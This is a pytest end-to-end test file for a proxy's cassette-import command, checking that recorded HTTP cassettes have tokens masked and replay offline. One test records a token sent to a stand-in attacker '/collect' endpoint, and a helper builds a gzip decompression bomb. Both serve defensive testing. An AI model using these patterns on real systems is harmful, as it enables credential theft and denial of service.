"""`proxy cassettes import`: users' own cassettes, written in the test itself by plain vcrpy and by pytest-recording
against a real upstream on 127.0.0.1 with a live-looking credential, imported with every secret masked, then
replayed by a real proxy server through the forward route with the upstream stopped."""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
import tracemalloc
import zlib
from pathlib import Path
from typing import Any

import httpx
import pytest
import vcr
from openai import OpenAI
from starlette.middleware.gzip import GZipMiddleware
from vcr.serialize import serialize
from vcr.serializers import yamlserializer

from proxy.cassettes.names import file_name
from proxy.config.file import load_config
from proxy.config.settings import MASK, MAX_UPSTREAM_BODY_BYTES
from tests.conftest import TEST_TOKEN, NoNetwork, chat_connection, running_proxy
from tests.encodings import revealed
from tests.helpers import invoke, post
from tests.servers import serve_in_thread
from tests.upstream import Received, Reply, Upstream, chat_completion

pytestmark = pytest.mark.e2e
LIVE_TOKEN = "sk-live-Q7fR2mX9kP4wL8nT3vB6yC1z"  # what a user's cassette usually holds, unmasked
QUERY_KEY = "qk-live-5dG8hJ2kL6mN9pR3"  # a credential in the query string (?api_key=)
SHORT_KEY = "k-4242"  # a credential too short to mask as text anywhere: its header alone masks it
ACCOUNT = "acct-7781-0042-9911-5530"  # a value the config's settings.redact_values masks
ECHOES = ("json-escaped", "base64", "percent", "utf-16-le")  # how the upstream echoes the token back
CHAT = {"model": "m", "messages": [{"role": "user", "content": "hello"}]}
RUN_TIMEOUT_S = 120


def completion(received: Received) -> Reply:
    """A chat completion that echoes the caller's token and an account number."""
    return chat_completion(
        received, system_fingerprint=received.headers["authorization"].partition(" ")[2], user=ACCOUNT
    )


def fake_upstream() -> Upstream:
    upstream = Upstream()
    upstream.handle("/v1/chat/completions", completion)
    upstream.script("/v1/models", Reply(json={"data": [{"id": "m-large", "owner": "acme"}]}))
    return upstream


def write_config(tmp_path: Path, upstream_url: str, *names: str, **settings: Any) -> Path:
    """A config file whose connections (`openai` unless named) all call `upstream_url`."""
    connections = [
        {
            "name": name,
            "product_id": "p",
            "type": "CONVERSATION",
            "url": f"{upstream_url}/v1/chat/completions",
            "auth_type": "NONE",
            "input_template": '{"messages": [{"role": "user", "content": "{{ input.user_message }}"}]}',
            "output_mapping": {"output": "$.choices[0].message.content"},
        }
        for name in names or ("openai",)
    ]
    path = tmp_path / "proxy.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"connections": connections, "settings": {"allow_http": True, **settings}}))
    return path


def import_into(cassettes: Path, config: Path, *args: str) -> tuple[int, list[str]]:
    code, output = invoke(
        "cassettes",
        "import",
        *args,
        "--config",
        str(config),
        "--cassettes",
        str(cassettes),
        "--data-dir",
        str(cassettes.parent / "data"),
    )
    return code, output.splitlines()


def assert_holds_no_secret(path: Path, *secrets: str) -> None:
    """Neither the file's bytes nor any body it holds (decoded from YAML, `!!binary` too) reveal a secret in any
    encoding `tests.encodings.revealed` reads."""
    raw = path.read_bytes()
    data = yamlserializer.deserialize(raw.decode("utf-8"))
    bodies = [i["request"]["body"] or b"" for i in data["interactions"]]
    bodies += [i["response"]["body"]["string"] or b"" for i in data["interactions"]]
    leaks = {
        (secret, where, tuple(found))
        for secret in secrets
        for where, text in [("file", raw), *enumerate(bodies)]
        if (found := revealed(secret, text))
    }
    assert not leaks, leaks


def test_a_plain_vcrpy_cassette_holding_a_live_token_is_imported_masked_and_replays_through_the_forward_route(
    tmp_path: Path,
) -> None:
    """The attack: a user's vcrpy cassette holds a live `Authorization: Bearer sk-live-…`, an `?api_key=` and answers
    that echo the token (plain, JSON-escaped, base64, percent-encoded, UTF-16) and an account number, gzip-encoded
    as vcrpy keeps them. After import no reading of the written cassette reveals any of them, the report names
    where each was, and a real server with the upstream stopped replays the answers through /forward/openai/."""
    upstream = fake_upstream()
    recorded = tmp_path / "recorded" / "test_chat.yaml"
    with serve_in_thread(GZipMiddleware(upstream.app, minimum_size=10)) as upstream_url:
        auth = {"Authorization": f"Bearer {LIVE_TOKEN}"}
        with vcr.use_cassette(str(recorded), record_mode="once"), httpx.Client(headers=auth) as client:
            live = client.post(f"{upstream_url}/v1/chat/completions?api_key={QUERY_KEY}", json=CHAT).json()
            echoed = {encoding: client.get(f"{upstream_url}/echo-auth/{encoding}").content for encoding in ECHOES}
    assert b"content-encoding" in recorded.read_bytes() and LIVE_TOKEN.encode() in recorded.read_bytes()
    config = write_config(tmp_path, upstream_url, ignore={"query": ["api_key"]}, redact_values=[ACCOUNT])
    cassettes = tmp_path / "cassettes"

    code, lines = import_into(cassettes, config, str(recorded))

    assert code == 0, lines
    assert lines == [
        f"imported {recorded} → connections/openai (5 interactions, 5 added; secrets masked: url ?api_key, request "
        "header authorization, response body $.system_fingerprint, response body $.user, response body $.reply, "
        "response body)",
        "checked 1 cassette, 5 interactions: 0 problems",
    ]
    written = cassettes / "connections" / "openai.yaml"
    assert_holds_no_secret(written, LIVE_TOKEN, QUERY_KEY, ACCOUNT)

    network = NoNetwork()
    with running_proxy(
        tmp_path / "replay", load_config(config), network, cassettes_dir=cassettes, record_mode="none"
    ) as proxy:
        sdk = OpenAI(api_key="not-the-live-key", base_url=f"{proxy.url}/forward/openai/v1", max_retries=0)
        answer = sdk.chat.completions.create(model="m", messages=[{"role": "user", "content": "hello"}])
        with httpx.Client(base_url=proxy.url) as client:
            replayed = {encoding: client.get(f"/forward/openai/echo-auth/{encoding}") for encoding in ECHOES}
    assert network.calls == 0
    assert answer.choices[0].message.content == live["choices"][0]["message"]["content"] == "answer to hello"
    assert (answer.system_fingerprint, answer.user) == (MASK, MASK)  # type: ignore[attr-defined]
    assert {e: (r.status_code, r.headers["x-proxy-cassette"]) for e, r in replayed.items()} == {
        e: (200, "hit") for e in ECHOES
    }
    assert replayed["json-escaped"].json() == {"reply": f"seen {MASK}"}
    assert all(echoed[e] != replayed[e].content and not revealed(LIVE_TOKEN, replayed[e].content) for e in ECHOES)


CONFTEST = '''
import os

import pytest


def pytest_configure(config):
    config.addinivalue_line("markers", "vcr: recorded and replayed by pytest-recording")


@pytest.fixture
def base_url(request):
    """The live upstream while pytest-recording records; the proxy's forward route once the cassettes are imported."""
    if os.environ.get("VIA_PROXY"):
        return request.getfixturevalue("proxy_server").url + "/forward/openai"
    return os.environ["UPSTREAM"]
'''
TESTS = """
import os

import httpx
import pytest
import requests

TOKEN = os.environ["LIVE_TOKEN"]


@pytest.mark.vcr
def test_chat(base_url):
    answer = httpx.post(
        f"{base_url}/v1/chat/completions",
        headers={"Authorization": f"Bearer {TOKEN}"},
        json={"model": "m", "messages": [{"role": "user", "content": "hello"}]},
    )
    assert answer.json()["choices"][0]["message"]["content"] == "answer to hello"


class TestModels:
    @pytest.mark.vcr
    def test_list(self, base_url):
        headers = {"X-Api-Key": os.environ["SHORT_KEY"], "Cookie": f"session={TOKEN}"}
        answer = requests.get(f"{base_url}/v1/models", headers=headers)
        assert answer.json()["data"][0]["id"] == "m-large"
"""


def run_pytest(project: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    """pytest in `project` with only the plugins named by `-p` (no autoloading: neither the proxy's plugin nor
    pytest-recording unless asked)."""
    return subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q", "-rA", *args],
        cwd=project,
        env={**os.environ, "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", **env},
        capture_output=True,
        text=True,
        timeout=RUN_TIMEOUT_S,
    )


def test_a_pytest_recording_folder_is_imported_per_test_and_the_same_tests_pass_offline_through_the_proxy_plugin(
    tmp_path: Path,
) -> None:
    """The attack: pytest-recording's per-test cassettes hold the live token in `Authorization` and `Cookie`, a
    short key in `X-Api-Key`, and gzip-encoded answers. The folder is imported into the per-test layout with no
    secret left, and the very same tests then pass through the proxy's pytest plugin with the upstream stopped."""
    project = tmp_path / "app"
    project.mkdir()
    (project / "conftest.py").write_text(CONFTEST)
    (project / "test_app.py").write_text(TESTS)
    upstream = fake_upstream()
    with serve_in_thread(GZipMiddleware(upstream.app, minimum_size=10)) as upstream_url:
        live = {"UPSTREAM": upstream_url, "LIVE_TOKEN": LIVE_TOKEN, "SHORT_KEY": SHORT_KEY}
        recording = run_pytest(project, "-p", "recording", "--record-mode", "once", **live)
    assert recording.returncode == 0, recording.stdout + recording.stderr
    recorded = project / "cassettes" / "test_app"
    assert sorted(p.name for p in recorded.iterdir()) == ["TestModels.test_list.yaml", "test_chat.yaml"]
    # vcrpy keeps httpx's gzip body as it came, and requests' decoded under the same header: both are stored decoded.
    assert b"content-encoding:\n      - gzip\n" in (recorded / "test_chat.yaml").read_bytes()
    assert b"!!binary" in (recorded / "test_chat.yaml").read_bytes()
    assert b"content-encoding:\n      - gzip\n" in (recorded / "TestModels.test_list.yaml").read_bytes()
    config = write_config(project, upstream_url)
    cassettes = project / "proxy-cassettes"

    code, lines = import_into(cassettes, config, str(project / "cassettes"))

    assert code == 0, lines
    assert lines == [
        f"imported {recorded / 'TestModels.test_list.yaml'} → test_app/{file_name('TestModels.test_list')}/connections/"
        "openai (1 interaction, 1 added; secrets masked: request header cookie, request header x-api-key)",
        f"imported {recorded / 'test_chat.yaml'} → test_app/test_chat/connections/openai (1 interaction, 1 added; "
        "secrets masked: request header authorization, response body $.system_fingerprint)",
        "checked 2 cassettes, 2 interactions: 0 problems",
    ]
    written = sorted(cassettes.rglob("*.yaml"))
    assert len(written) == 2
    for path in written:
        assert_holds_no_secret(path, LIVE_TOKEN, SHORT_KEY)

    replay = run_pytest(
        project,
        "-p",
        "proxy.pytest_plugin.hooks",
        "--proxy-config",
        str(config),
        "--proxy-cassettes",
        str(cassettes),
        VIA_PROXY="1",
        LIVE_TOKEN="not-the-live-token",
        SHORT_KEY="k-0000",
    )
    assert replay.returncode == 0, replay.stdout + replay.stderr
    assert "2 passed" in replay.stdout


def record_chat(path: Path, upstream_url: str, content: str = "hello", serializer: str = "yaml") -> httpx.Response:
    """One chat call to `upstream_url` with the live token, recorded by plain vcrpy into `path`."""
    recorder = vcr.VCR(serializer=serializer, record_mode="once")
    body = {"model": "m", "messages": [{"role": "user", "content": content}]}
    with recorder.use_cassette(str(path)):
        return httpx.post(
            f"{upstream_url}/v1/chat/completions", headers={"Authorization": f"Bearer {LIVE_TOKEN}"}, json=body
        )


def test_a_file_that_is_no_cassette_gets_its_line_and_exit_1_the_others_are_imported_and_importing_again_adds_nothing(
    tmp_path: Path, upstream: Upstream, upstream_url: str
) -> None:
    """The attack: a cassette folder that also holds a YAML file that is no cassette and a broken JSON file, imported
    twice. Each bad file is named with why (exit 1), the good one is imported, and the second import writes nothing:
    the cassette's bytes stay as they were, with its one interaction."""
    upstream.handle("/v1/chat/completions", completion)
    folder = tmp_path / "recorded"
    good = folder / "test_a" / "test_one.yaml"
    record_chat(good, upstream_url)
    notes, broken = folder / "test_a" / "notes.yaml", folder / "test_a" / "broken.json"
    notes.write_text("owner: me\nreviewed: true\n")
    broken.write_text("{not json")
    config = write_config(tmp_path, upstream_url)
    cassettes = tmp_path / "cassettes"
    failed = [
        f"FAILED   {broken}: cassette {broken} is not valid JSON: Expecting property name enclosed in double quotes: "
        "line 1 column 2 (char 1)",
        f"FAILED   {notes}: cassette {notes} is not in vcrpy's format (no 'interactions' list)",
    ]

    code, lines = import_into(cassettes, config, str(folder))

    assert (code, lines) == (
        1,
        [
            *failed,
            f"imported {good} → test_a/test_one/connections/openai (1 interaction, 1 added; secrets masked: request "
            "header authorization, response body $.system_fingerprint)",
            "checked 1 cassette, 1 interaction: 0 problems",
        ],
    )
    written = cassettes / "test_a" / "test_one" / "connections" / "openai.yaml"
    first = written.read_bytes()

    code, lines = import_into(cassettes, config, str(folder), str(good))

    assert (code, lines) == (
        1,
        [
            *failed,
            f"imported {good} → test_a/test_one/connections/openai (1 interaction, 0 added; secrets masked: request "
            "header authorization, response body $.system_fingerprint)",
            f"imported {good} → connections/openai (1 interaction, 1 added; secrets masked: request header "
            "authorization, response body $.system_fingerprint)",
            "checked 2 cassettes, 2 interactions: 0 problems",
        ],
    )
    assert written.read_bytes() == first
    assert len(yamlserializer.deserialize(first.decode())["interactions"]) == 1


def test_interactions_bound_for_another_origin_are_skipped_and_never_written(
    tmp_path: Path, upstream: Upstream, upstream_url: str, attacker: tuple[Upstream, str]
) -> None:
    """The attack: a cassette that mixes calls to the connection's upstream with a call to another origin (a
    listener of the attacker's, with the token in its query). Imported for `openai`, only the upstream's call is
    written, and the line says why the other is not; with no connection named, an origin that several connections
    or none share imports nothing. An unknown connection is bad usage (exit 2)."""
    upstream.handle("/v1/chat/completions", completion)
    _, attacker_url = attacker
    recorded = tmp_path / "mixed.yaml"
    with vcr.use_cassette(str(recorded), record_mode="once"):
        httpx.post(f"{upstream_url}/v1/chat/completions", json=CHAT, headers={"Authorization": f"Bearer {LIVE_TOKEN}"})
        httpx.get(f"{attacker_url}/collect?token={LIVE_TOKEN}")
    config = write_config(tmp_path, upstream_url)
    cassettes = tmp_path / "cassettes"

    code, lines = import_into(cassettes, config, str(recorded), "--connection", "openai")

    assert (code, lines) == (
        1,
        [
            f"imported {recorded} → connections/openai (1 interaction, 1 added; secrets masked: request header "
            "authorization, response body $.system_fingerprint)",
            f"SKIPPED  {recorded} #1 GET {attacker_url}/collect?token={MASK}: its origin {attacker_url} is not "
            f"connection openai's ({upstream_url}); not imported, so it is never sent or matched there",
            "checked 1 cassette, 1 interaction: 0 problems",
        ],
    )
    written = (cassettes / "connections" / "openai.yaml").read_text()
    assert attacker_url.rpartition(":")[2] not in written and "collect" not in written

    two = write_config(tmp_path / "two", upstream_url, "openai", "openai-copy")
    code, lines = import_into(tmp_path / "other", two, str(recorded))
    assert (code, lines) == (
        1,
        [
            f"SKIPPED  {recorded} #0 POST {upstream_url}/v1/chat/completions: connections openai, openai-copy all "
            f"send their calls to {upstream_url}; give --connection NAME",
            f"SKIPPED  {recorded} #1 GET {attacker_url}/collect?token={MASK}: no connection sends its calls to "
            f"{attacker_url}; add one, or give --connection NAME",
            "checked 0 cassettes, 0 interactions: 0 problems",
        ],
    )
    assert not (tmp_path / "other").exists()

    code, output = invoke(
        "cassettes",
        "import",
        str(recorded),
        "--config",
        str(config),
        "--connection",
        "chat",
        "--cassettes",
        str(cassettes),
        "--data-dir",
        str(tmp_path / "data"),
    )
    assert code == 2 and "no connection 'chat' in the config file or the data dir (known: openai)" in output


def gzip_bomb(decoded_mib: int) -> bytes:
    """One gzip member of `decoded_mib` MiB of zeros, made without compressing them all: a sync-flushed deflate
    block of 1 MiB of zeros refers only to the zeros before it, so it can be repeated."""
    mib = bytes(1024 * 1024)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = deflate.compress(mib) + deflate.flush(zlib.Z_SYNC_FLUSH)
    more = deflate.compress(mib) + deflate.flush(zlib.Z_SYNC_FLUSH)
    crc = 0
    for _ in range(decoded_mib):
        crc = zlib.crc32(mib, crc)
    trailer = struct.pack("<II", crc, (decoded_mib * len(mib)) & 0xFFFFFFFF)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + first + more * (decoded_mib - 1) + deflate.flush() + trailer


def test_a_gzip_bomb_in_an_imported_answer_is_refused_at_the_cap_without_inflating_it(tmp_path: Path) -> None:
    """The attack: a cassette whose answer is 256 MiB of zeros gzip-encoded into 260 KB (vcrpy keeps compressed
    answers as they came). The answer is decoded only up to the cap a recorded answer may have and skipped, with the
    line saying so; the import's traced memory peaks far below the bomb's size. The file's other answer is imported."""
    base = "http://127.0.0.1:9"  # never called: import only reads the cassette
    request = vcr.request.Request("POST", f"{base}/v1/chat/completions", b'{"model": "m"}', {})
    bomb = {
        "status": {"code": 200, "message": "OK"},
        "headers": {"Content-Encoding": ["gzip"]},
        "body": {"string": gzip_bomb(256)},
    }
    fine = {"status": {"code": 200, "message": "OK"}, "headers": {}, "body": {"string": b'{"ok": true}'}}
    recorded = tmp_path / "bomb.yaml"
    recorded.write_text(serialize({"requests": [request, request], "responses": [bomb, fine]}, yamlserializer))
    config = write_config(tmp_path, base)

    tracemalloc.start()
    try:
        code, lines = import_into(tmp_path / "cassettes", config, str(recorded))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert (code, lines) == (
        1,
        [
            f"imported {recorded} → connections/openai (1 interaction, 1 added; no secret found)",
            f"SKIPPED  {recorded} #0 POST {base}/v1/chat/completions: its gzip-encoded answer decodes to more than the "
            f"{MAX_UPSTREAM_BODY_BYTES} byte cap a recorded answer may have",
            "checked 1 cassette, 1 interaction: 0 problems",
        ],
    )
    assert peak < 64 * 1024 * 1024, f"peak {peak / 1024 / 1024:.0f} MiB"


def test_a_cassette_from_vcrpys_json_serializer_is_imported_and_replays(
    tmp_path: Path, upstream: Upstream, upstream_url: str
) -> None:
    """The attack: the token in a `.json` cassette (vcrpy's JSON serializer, non-ASCII text as surrogate-pair
    escapes) is masked like a YAML one's, and the recorded answer replays through the forward route word for word."""
    upstream.handle("/v1/chat/completions", completion)
    recorded = tmp_path / "recorded" / "test_emoji.json"
    live = record_chat(recorded, upstream_url, content="héllo 😀", serializer="json")
    assert "\\ud83d\\ude00" in recorded.read_text() and LIVE_TOKEN in recorded.read_text()
    config = write_config(tmp_path, upstream_url)
    cassettes = tmp_path / "cassettes"

    code, lines = import_into(cassettes, config, str(recorded))

    assert code == 0, lines
    assert_holds_no_secret(cassettes / "connections" / "openai.yaml", LIVE_TOKEN)
    with running_proxy(
        tmp_path / "replay", load_config(config), NoNetwork(), cassettes_dir=cassettes, record_mode="none"
    ) as proxy:
        replayed = httpx.post(
            f"{proxy.url}/forward/openai/v1/chat/completions",
            json={"model": "m", "messages": [{"role": "user", "content": "héllo 😀"}]},
        )
    assert (replayed.status_code, replayed.headers["x-proxy-cassette"]) == (200, "hit")
    assert replayed.json()["choices"] == live.json()["choices"]
    assert replayed.json()["choices"][0]["message"]["content"] == "answer to héllo 😀"
    assert replayed.json()["system_fingerprint"] == MASK


def test_a_connection_and_its_secret_stored_in_the_data_dir_are_what_an_import_with_that_data_dir_uses(
    tmp_path: Path, upstream: Upstream, upstream_url: str
) -> None:
    """The attack: a cassette whose answer echoes a credential only the data dir knows (a connection's auth token,
    stored through the API, shaped like no well-known token). Imported with that data dir and no config file, the
    token is masked and the stored connection is found by the recording's origin."""
    data_dir = tmp_path / "data"
    with running_proxy(tmp_path / "server", data_dir=data_dir) as proxy, httpx.Client(base_url=proxy.url) as client:
        post(client, "/endpointConnections", chat_connection(upstream_url, name="stored-chat"))
    upstream.script("/chat", Reply(json={"reply": f"your token is {TEST_TOKEN}"}))
    recorded = tmp_path / "echo.yaml"
    with vcr.use_cassette(str(recorded), record_mode="once"):
        httpx.post(f"{upstream_url}/chat", json={"message": "hi"})
    assert TEST_TOKEN in recorded.read_text()
    cassettes = tmp_path / "cassettes"

    code, output = invoke(
        "cassettes", "import", str(recorded), "--cassettes", str(cassettes), "--data-dir", str(data_dir)
    )

    assert (code, output.splitlines()) == (
        0,
        [
            f"imported {recorded} → connections/stored-chat (1 interaction, 1 added; secrets masked: response body "
            "$.reply)",
            "checked 1 cassette, 1 interaction: 0 problems",
        ],
    )
    assert_holds_no_secret(cassettes / "connections" / "stored-chat.yaml", TEST_TOKEN)


def test_a_zero_config_suite_imports_for_a_forward_only_upstream_named_with_its_url(tmp_path: Path) -> None:
    """A suite that runs with `--proxy-upstream openai=…` has no config file naming `openai`: `--connection
    NAME=URL` imports for such an upstream, and a bad one is refused naming the option."""
    base = "http://127.0.0.1:9"
    request = vcr.request.Request("POST", f"{base}/v1/chat/completions", b'{"model": "m"}', {})
    answer = {"status": {"code": 200, "message": "OK"}, "headers": {}, "body": {"string": b'{"ok": true}'}}
    recorded = tmp_path / "chat.yaml"
    recorded.write_text(serialize({"requests": [request], "responses": [answer]}, yamlserializer))
    cassettes = tmp_path / "cassettes"
    where = ["--cassettes", str(cassettes), "--data-dir", str(tmp_path / "data")]
    code, output = invoke("cassettes", "import", str(recorded), "--connection", f"openai={base}/v1", *where)
    assert code == 0, output
    assert (
        output.splitlines()[0] == f"imported {recorded} → connections/openai (1 interaction, 1 added; no secret found)"
    )
    assert (cassettes / "connections" / "openai.yaml").exists()
    code, output = invoke("cassettes", "import", str(recorded), "--connection", "openai=", *where)
    assert code == 2 and "--connection" in output and "is not NAME=VALUE" in output
